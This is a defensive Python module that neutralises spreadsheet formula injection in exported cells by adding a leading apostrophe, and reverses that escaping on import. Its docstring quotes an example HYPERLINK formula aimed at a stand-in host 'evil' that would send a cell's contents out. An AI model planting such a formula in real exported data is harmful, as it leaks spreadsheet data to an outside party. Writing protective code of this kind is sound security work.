"""Cell text that a spreadsheet will not run: formula injection neutralised on export, undone on import.

Why: a touchpoint named ``=HYPERLINK("http://evil/?"&A1)`` or a pain point starting with ``+``, ``-``
or ``@`` would be a formula when the exported table is opened in Excel, LibreOffice or Google Sheets.
Such text gets a leading apostrophe (``'=...``), the usual way to say "this is text" in a CSV; a
plain number (``-12``, an NPS) is left as it is, since a spreadsheet reads it as the number it is.
Text that already starts with apostrophes followed by one of those characters gets one more, so
``unescape(escape(text)) == text`` for every text (tests/interchange/test_cells.py checks it).
"""

from __future__ import annotations

import re

#: What makes a spreadsheet read a cell as a formula (OWASP's list: = + - @, tab and carriage return).
DANGEROUS = "=+-@\t\r"
_NEEDS_QUOTE = re.compile(rf"'*[{re.escape(DANGEROUS)}]")
_QUOTED = re.compile(rf"'+[{re.escape(DANGEROUS)}]")
_PLAIN_NUMBER = re.compile(r"[-+]?[0-9]+(\.[0-9]+)?")


def escape(text: str) -> str:
    """Text safe to put in a spreadsheet cell: a leading ``'`` when it would start a formula."""
    if _PLAIN_NUMBER.fullmatch(text) and not text.startswith("+"):
        return text
    return "'" + text if _NEEDS_QUOTE.match(text) else text


def unescape(text: str) -> str:
    """The text ``escape`` was given: one leading ``'`` before a formula character is dropped."""
    return text[1:] if _QUOTED.match(text) else text


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would take this text for a formula (XLSX cells are then stored as text)."""
    return bool(text) and text[0] in DANGEROUS and not (_PLAIN_NUMBER.fullmatch(text) and text[0] == "-")
